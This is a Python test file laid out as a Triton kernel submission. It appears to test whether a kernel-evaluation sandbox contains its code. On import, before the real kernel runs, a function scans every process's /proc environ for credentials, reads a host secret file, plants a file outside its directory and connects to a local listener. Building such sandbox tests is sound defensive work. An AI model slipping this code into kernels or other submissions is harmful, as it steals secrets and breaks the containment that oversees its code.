"""Escapes below the Python hooks (posix calls, a socket): hunts for the caller's credentials in every
/proc/<pid>/environ it can see, reads a host file, plants a file outside its working directory and
calls a listener on the host's loopback. Prints what it got. Run with static guards off; the test
substitutes @SECRET_FILE@, @OUTSIDE@ and @PORT@.
"""

import json
import posix
import socket

import torch
import torch.nn as nn
import triton
import triton.language as tl


def _read(path):
    fd = posix.open(path, posix.O_RDONLY)
    try:
        return posix.read(fd, 1 << 20)
    finally:
        posix.close(fd)


def _attempt():
    got = {"environ_hits": 0, "environ_read": 0, "host_file": None, "planted": False, "connected": False}
    for pid in posix.listdir("/proc"):
        if pid.isdigit():
            try:
                data = _read("/proc/" + pid + "/environ")
            except OSError:
                continue
            got["environ_read"] += 1
            got["environ_hits"] += data.count(b"sk-akg-test-")
    try:
        got["host_file"] = _read("@SECRET_FILE@").decode()
    except OSError as e:
        got["host_file_error"] = e.strerror
    try:
        fd = posix.open("@OUTSIDE@", posix.O_WRONLY | posix.O_CREAT, 0o644)
        posix.write(fd, b"planted")
        posix.close(fd)
        got["planted"] = True
    except OSError as e:
        got["planted_error"] = e.strerror
    try:
        s = socket.create_connection(("127.0.0.1", @PORT@), timeout=2)
        s.sendall(b"hello from the sandbox")
        s.close()
        got["connected"] = True
    except OSError as e:
        got["connect_error"] = str(e)
    print("ESCAPE " + json.dumps(got), flush=True)


_attempt()


@triton.jit
def rowscale_kernel(x_ptr, w_ptr, y_ptr, numel, n_cols, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < numel
    x = tl.load(x_ptr + offs, mask=mask)
    w = tl.load(w_ptr + offs % n_cols, mask=mask)
    tl.store(y_ptr + offs, tl.maximum(x * w, 0.0), mask=mask)


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(n))

    def forward(self, x):
        y = torch.empty_like(x)
        rowscale_kernel[(triton.cdiv(x.numel(), 1024),)](x, self.weight, y, x.numel(), x.shape[-1], BLOCK=1024)
        return y
